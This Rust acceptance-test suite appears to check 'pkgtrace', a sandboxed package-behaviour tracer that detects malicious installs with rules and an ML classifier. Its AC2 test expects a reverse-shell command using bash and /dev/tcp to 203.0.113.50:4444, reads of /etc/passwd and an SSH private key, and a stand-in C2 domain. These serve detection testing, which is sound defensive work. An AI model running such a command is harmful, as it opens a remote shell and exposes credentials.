//! Acceptance suite: one PASS/FAIL line per criterion, nonzero exit if any
//! criterion fails. Run with `cargo test -p pkgtrace-cli --test acceptance`.

#[path = "../../core/tests/common/mod.rs"]
mod common;
#[path = "../../service/tests/support/mod.rs"]
mod support;

use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::PathBuf;
use std::process::Command;
use std::time::{Duration, Instant};

use pkgtrace_core::ml::{
    load_labelled_dir, model_from_str, model_to_string, score, train, TrainConfig,
    DEFAULT_DIMENSION,
};
use pkgtrace_core::rules::{Category, DEFAULT_RULES};
use pkgtrace_core::sandbox::{run_phase, DEFAULT_PHASE_TIMEOUT_S};
use pkgtrace_core::strace::{parse_str, ArgValue, RetValue};
use pkgtrace_core::{
    analyze, match_report, parse_ruleset, BackendSpec, BehaviorReport, PackageSpec, Phase,
    RunConfig,
};
use pkgtrace_service::{JobState, Service, ServiceConfig};
use rand::SeedableRng;
use rand_chacha::ChaCha8Rng;

type Outcome = Result<String, String>;
type Criterion = (&'static str, &'static str, fn() -> Outcome);

macro_rules! ensure {
    ($cond:expr, $($msg:tt)+) => {
        let held: bool = $cond;
        if !held {
            return Err(format!($($msg)+));
        }
    };
}

fn within(started: Instant, limit: Duration, what: &str) -> Result<Duration, String> {
    let took = started.elapsed();
    ensure!(took < limit, "{what} took {took:.2?}, limit {limit:?}");
    Ok(took)
}

fn ac1_parser_golden() -> Outcome {
    let started = Instant::now();
    let golden: serde_json::Value =
        serde_json::from_str(&common::golden_json()).map_err(|e| e.to_string())?;
    let trace = parse_str(&common::golden_trace(), None);
    let lines = golden["lines"].as_u64().unwrap() as usize;
    ensure!(lines >= 200, "golden corpus has only {lines} lines");
    ensure!(
        trace.lines == lines,
        "parsed {} lines, golden says {lines}",
        trace.lines
    );
    ensure!(
        trace.diagnostics.is_empty(),
        "{} diagnostics on well-formed input",
        trace.diagnostics.len()
    );
    let want = golden["events"].as_array().unwrap();
    ensure!(
        trace.events.len() == want.len(),
        "{} events, golden has {}",
        trace.events.len(),
        want.len()
    );
    for (i, (got, w)) in trace.events.iter().zip(want).enumerate() {
        let args: Vec<ArgValue> =
            serde_json::from_value(w["args"].clone()).map_err(|e| e.to_string())?;
        let ret: RetValue = serde_json::from_value(w["ret"].clone()).map_err(|e| e.to_string())?;
        let same = got.pid as u64 == w["pid"].as_u64().unwrap()
            && got.name == w["name"]
            && got.args == args
            && got.ret == ret;
        ensure!(same, "event {i} differs: {}", got.raw);
    }
    ensure!(
        trace.signals.len() == golden["signals"].as_array().unwrap().len(),
        "signal count differs"
    );
    ensure!(
        trace.exits.len() == golden["exits"].as_array().unwrap().len(),
        "exit count differs"
    );

    let corpus = common::golden_trace();
    let corpus: Vec<&str> = corpus.lines().collect();
    let fuzz = common::fuzz_lines(&mut ChaCha8Rng::seed_from_u64(1), 10_000, &corpus);
    let t = catch_unwind(|| parse_str(&fuzz.join("\n"), None))
        .map_err(|_| "parser panicked on fuzz input".to_string())?;
    let skipped = t.diagnostics.iter().filter(|d| d.skips_line()).count();
    let accounted = t.events.len() + t.merged + t.signals.len() + t.exits.len() + skipped;
    ensure!(
        accounted == t.lines,
        "fuzz: {accounted} of {} lines accounted for",
        t.lines
    );
    let took = within(started, Duration::from_secs(5), "golden + fuzz")?;
    Ok(format!(
        "{lines} golden lines, {} events, 0 diagnostics; 10000 fuzz lines ok; {took:.2?}",
        want.len()
    ))
}

fn ac2_hand_trace() -> Outcome {
    let report = common::report_from_trace(Phase::Install, &common::hand_trace());
    let p = &report.phases[&Phase::Install];
    ensure!(p.commands.len() == 1, "{} commands", p.commands.len());
    let c = &p.commands[0];
    ensure!(c.program_path == "/bin/bash", "program {}", c.program_path);
    ensure!(
        c.argv == ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"],
        "argv {:?}",
        c.argv
    );
    let files: Vec<_> = p.files.iter().map(|f| f.path.as_str()).collect();
    ensure!(
        files == ["/etc/passwd", "/root/.ssh/id_rsa"],
        "files {files:?}"
    );
    let eps: Vec<_> = p
        .endpoints
        .iter()
        .map(|e| format!("{}:{}", e.address, e.port))
        .collect();
    ensure!(
        eps.iter().any(|e| e == "203.0.113.50:4444"),
        "endpoints {eps:?}"
    );
    ensure!(
        p.domains.len() == 1 && p.domains[0].name == "c2.evil-updates.example",
        "domains {:?}",
        p.domains
    );
    Ok(format!(
        "1 command, 2 files, {} endpoints, 1 domain",
        eps.len()
    ))
}

fn ac3_dns_round_trip() -> Outcome {
    let mut rng = ChaCha8Rng::seed_from_u64(3);
    let mut failures = Vec::new();
    for _ in 0..1000 {
        let name = common::random_domain(&mut rng);
        let report = common::report_from_trace(Phase::Install, &common::dns_query_trace(&name, 1));
        let got: Vec<_> = report.phases[&Phase::Install]
            .domains
            .iter()
            .map(|d| d.name.clone())
            .collect();
        if got != [name.clone()] {
            failures.push(name);
        }
    }
    ensure!(
        failures.is_empty(),
        "{} failures, first {:?}",
        failures.len(),
        failures[0]
    );
    Ok("1000/1000 names recovered".into())
}

fn ac4_rule_oracle() -> Outcome {
    let mut rng = ChaCha8Rng::seed_from_u64(4);
    let mut alerts = 0;
    for i in 0..500 {
        let (rules, report) = common::random_instance(&mut rng);
        let got = match_report(&report, &rules);
        let want = common::brute_force_alerts(&report, &rules);
        ensure!(
            got == want,
            "instance {i}: engine {} alerts, oracle {}",
            got.len(),
            want.len()
        );
        alerts += got.len();
    }
    Ok(format!("500/500 instances equal ({alerts} alerts total)"))
}

fn ac5_case_study() -> Outcome {
    let started = Instant::now();
    let out = Command::new(env!("CARGO_BIN_EXE_pkgtrace"))
        .args(["replay", common::bundle("solana-style").to_str().unwrap()])
        .output()
        .map_err(|e| e.to_string())?;
    let took = within(started, Duration::from_secs(2), "CLI replay")?;
    ensure!(
        out.status.code() == Some(3),
        "exit status {:?}",
        out.status.code()
    );
    let report = BehaviorReport::from_json(&String::from_utf8_lossy(&out.stdout))
        .map_err(|e| e.to_string())?;
    ensure!(report.alerts.len() >= 3, "{} alerts", report.alerts.len());
    let has = |c: Category| report.alerts.iter().any(|a| a.category == c);
    ensure!(
        has(Category::File) && has(Category::Command),
        "categories missing file or command"
    );
    ensure!(
        has(Category::Domain) || has(Category::Ip),
        "no domain or ip alert"
    );
    let mut rules: Vec<_> = report.alerts.iter().map(|a| a.rule_id.as_str()).collect();
    rules.dedup();
    Ok(format!(
        "{} alerts ({}), exit 3, {took:.2?}",
        report.alerts.len(),
        rules.join(", ")
    ))
}

fn on_path(bin: &str) -> Option<PathBuf> {
    std::env::split_paths(&std::env::var_os("PATH")?)
        .map(|d| d.join(bin))
        .find(|p| p.is_file())
}

fn timed_sleeper(backend: &BackendSpec) -> Result<Duration, String> {
    let dir = tempfile::tempdir().map_err(|e| e.to_string())?;
    let config = RunConfig {
        phase_timeout_s: 1,
        backend: backend.clone(),
        ..RunConfig::default()
    };
    let argv = vec!["sleep".to_string(), "5".to_string()];
    let started = Instant::now();
    let run = run_phase(
        &argv,
        backend,
        &config,
        dir.path(),
        &dir.path().join("t.strace"),
    )
    .map_err(|e| e.to_string())?;
    let took = started.elapsed();
    ensure!(run.timed_out, "timed_out not set");
    ensure!(took < Duration::from_secs(3), "took {took:.2?}");
    Ok(took)
}

fn ac6_timeout() -> Outcome {
    ensure!(
        DEFAULT_PHASE_TIMEOUT_S == 10,
        "default timeout {DEFAULT_PHASE_TIMEOUT_S}"
    );
    ensure!(
        RunConfig::default().phase_timeout_s == 10,
        "RunConfig default differs"
    );
    let template = BackendSpec::CommandTemplate {
        template: ["sh", "-c", ": > {TRACE_OUT}; exec \"$@\"", "wrap", "{CMD}"]
            .iter()
            .map(|s| s.to_string())
            .collect(),
    };
    let t_template = timed_sleeper(&template)?;
    match on_path("strace") {
        Some(strace) => {
            let took = timed_sleeper(&BackendSpec::TracedSubprocess { strace_binary_path: strace })?;
            Ok(format!("default 10 s; traced sleeper stopped after {took:.2?}; template {t_template:.2?}"))
        }
        None => Ok(format!(
            "default 10 s; template sleeper stopped after {t_template:.2?}; traced run gated (strace not on PATH)"
        )),
    }
}

fn ac7_ml() -> Outcome {
    let worst = (0..10)
        .map(common::worst_gradient_error)
        .fold(0.0, f64::max);
    ensure!(worst <= 1e-5, "gradient relative error {worst:e}");

    let data = load_labelled_dir(&common::fixtures_dir().join("ml")).map_err(|e| e.to_string())?;
    ensure!(data.len() == 100, "{} fixture traces", data.len());
    let config = TrainConfig {
        rng_seed: 42,
        ..TrainConfig::default()
    };
    let a = train(&data, &config, DEFAULT_DIMENSION).map_err(|e| e.to_string())?;
    let b = train(&data, &config, DEFAULT_DIMENSION).map_err(|e| e.to_string())?;
    let bits = |m: &pkgtrace_core::ml::Model| {
        m.weights
            .iter()
            .map(|w| w.to_bits())
            .chain([m.bias.to_bits()])
            .collect::<Vec<_>>()
    };
    ensure!(bits(&a) == bits(&b), "weights differ between seeded runs");
    let acc = pkgtrace_core::ml::accuracy(&a, &data).map_err(|e| e.to_string())?;
    ensure!(acc >= 0.95, "training accuracy {acc}");

    let back = model_from_str(&model_to_string(&a)).map_err(|e| e.to_string())?;
    for (r, _) in &data {
        let (x, y) = (score(&a, r).unwrap(), score(&back, r).unwrap());
        ensure!(
            x.to_bits() == y.to_bits(),
            "score {x} became {y} after save/load"
        );
    }
    Ok(format!("max gradient error {worst:.1e}; accuracy {acc:.3} on 100 traces; seeded runs identical; save/load exact"))
}

fn ac8_determinism() -> Outcome {
    let rules = parse_ruleset(DEFAULT_RULES).map_err(|e| e.to_string())?;
    // The pretty-printed report keeps created_at on a line of its own.
    let without_timestamp = |r: BehaviorReport| {
        r.to_json()
            .lines()
            .filter(|l| !l.trim_start().starts_with("\"created_at\""))
            .collect::<Vec<_>>()
            .join("\n")
    };
    let mut sizes = Vec::new();
    for name in ["solana-style", "empty"] {
        let config = RunConfig {
            backend: BackendSpec::Replay {
                bundle_path: common::bundle(name),
            },
            ..RunConfig::default()
        };
        let spec = PackageSpec::named("npm", "ignored", None);
        let run = || {
            analyze(&spec, &config, &rules, None)
                .map(without_timestamp)
                .map_err(|e| e.to_string())
        };
        let (a, b) = (run()?, run()?);
        ensure!(a == b, "{name}: reports differ");
        sizes.push(a.len());
    }
    Ok(format!(
        "solana-style and empty reports byte-identical across runs ({} and {} bytes)",
        sizes[0], sizes[1]
    ))
}

fn ac9_service() -> Outcome {
    let rt = tokio::runtime::Runtime::new().map_err(|e| e.to_string())?;
    let dir = tempfile::tempdir().map_err(|e| e.to_string())?;
    let store_dir = dir.path();
    let solana = support::tar_gz(&support::solana_bundle_dir());
    let empty = support::tar_gz(&support::empty_bundle_dir());

    let svc = Service::start(ServiceConfig {
        workers: 2,
        ..ServiceConfig::new(store_dir)
    })
    .map_err(|e| e.to_string())?;
    let app = svc.router();
    let mut ids = Vec::new();
    for i in 0..10 {
        let bundle = if i % 2 == 0 { &solana } else { &empty };
        let r = rt.block_on(support::submit(
            &app,
            &[support::Part::File("bundle", "b.tar.gz", bundle)],
        ));
        ensure!(r.status == 202, "submit {i}: {} {}", r.status, r.text());
        ids.push(r.json()["id"].as_str().unwrap().to_string());
    }
    ensure!(
        support::wait_terminal(svc.store(), &ids, Duration::from_secs(30)),
        "jobs did not finish"
    );

    let mut before = Vec::new();
    for id in &ids {
        let job = rt
            .block_on(support::get(&app, &format!("/api/v1/jobs/{id}")))
            .json();
        ensure!(job["state"] == "succeeded", "{id}: {job}");
        ensure!(job["finished_at"].is_string(), "{id} has no finished_at");
        let report = rt.block_on(support::get(&app, &format!("/api/v1/jobs/{id}/report")));
        ensure!(report.status == 200, "{id}: report {}", report.status);
        before.push((job, report.text()));
    }
    // Exactly one terminal state: nothing changes after the queue drains.
    std::thread::sleep(Duration::from_millis(200));
    ensure!(
        support::states(svc.store(), &ids)
            .iter()
            .all(|s| *s == JobState::Succeeded),
        "state changed after finishing"
    );

    let rules_before = rt.block_on(support::get(&app, "/api/v1/rules")).text();
    let bad = rt.block_on(support::put_rules(
        &app,
        "rule half_written : file {\n  match = \"/etc/passwd\"\n",
    ));
    ensure!(
        bad.status == 400,
        "invalid PUT /rules answered {}",
        bad.status
    );
    ensure!(
        rt.block_on(support::get(&app, "/api/v1/rules")).text() == rules_before,
        "rules changed after invalid PUT"
    );
    svc.shutdown();

    let svc = Service::start(ServiceConfig::new(store_dir)).map_err(|e| e.to_string())?;
    let app = svc.router();
    for (id, (job, report)) in ids.iter().zip(&before) {
        let j = rt
            .block_on(support::get(&app, &format!("/api/v1/jobs/{id}")))
            .json();
        ensure!(&j == job, "{id} changed across restart");
        let r = rt
            .block_on(support::get(&app, &format!("/api/v1/jobs/{id}/report")))
            .text();
        ensure!(&r == report, "{id} report changed across restart");
    }
    ensure!(
        rt.block_on(support::get(&app, "/api/v1/rules")).text() == rules_before,
        "rules changed across restart"
    );
    // The kept ruleset is still the one in force.
    let r = rt.block_on(support::submit(
        &app,
        &[support::Part::File("bundle", "b.tar.gz", &solana)],
    ));
    let id = r.json()["id"].as_str().unwrap().to_string();
    ensure!(
        support::wait_terminal(svc.store(), std::slice::from_ref(&id), Duration::from_secs(20)),
        "post-restart job did not finish"
    );
    let fresh: serde_json::Value =
        serde_json::from_str(&svc.report(&id).map_err(|e| e.to_string())?).unwrap();
    let old: serde_json::Value = serde_json::from_str(&before[0].1).unwrap();
    ensure!(
        fresh["alerts"] == old["alerts"],
        "alerts differ under the kept ruleset"
    );
    Ok("10 jobs, 2 workers: all succeeded once; reports retrievable; restart preserved jobs, reports and rules; invalid PUT rejected".into())
}

fn main() {
    let criteria: [Criterion; 9] = [
        ("AC1", "parser golden suite and fuzzing", ac1_parser_golden),
        ("AC2", "hand-built trace extraction", ac2_hand_trace),
        ("AC3", "DNS name round-trip", ac3_dns_round_trip),
        (
            "AC4",
            "rule engine equals brute-force oracle",
            ac4_rule_oracle,
        ),
        ("AC5", "solana-style case study", ac5_case_study),
        ("AC6", "phase timeout enforcement", ac6_timeout),
        ("AC7", "ML gradient, accuracy, reproducibility", ac7_ml),
        ("AC8", "replay determinism", ac8_determinism),
        ("AC9", "service lifecycle", ac9_service),
    ];
    let only: Vec<String> = std::env::args()
        .skip(1)
        .filter(|a| a.starts_with("AC"))
        .collect();
    let mut failed = 0;
    for (id, title, check) in criteria {
        if !only.is_empty() && !only.iter().any(|o| o == id) {
            continue;
        }
        let started = Instant::now();
        let outcome = catch_unwind(AssertUnwindSafe(check)).unwrap_or_else(|p| {
            Err(p
                .downcast_ref::<String>()
                .cloned()
                .or_else(|| p.downcast_ref::<&str>().map(|s| s.to_string()))
                .unwrap_or_else(|| "panicked".into()))
        });
        let secs = started.elapsed().as_secs_f64();
        match outcome {
            Ok(detail) => println!("{id} PASS  {title}: {detail} [{secs:.2}s]"),
            Err(why) => {
                failed += 1;
                println!("{id} FAIL  {title}: {why} [{secs:.2}s]");
            }
        }
    }
    if failed > 0 {
        println!("{failed} criterion/criteria failed");
        std::process::exit(1);
    }
}
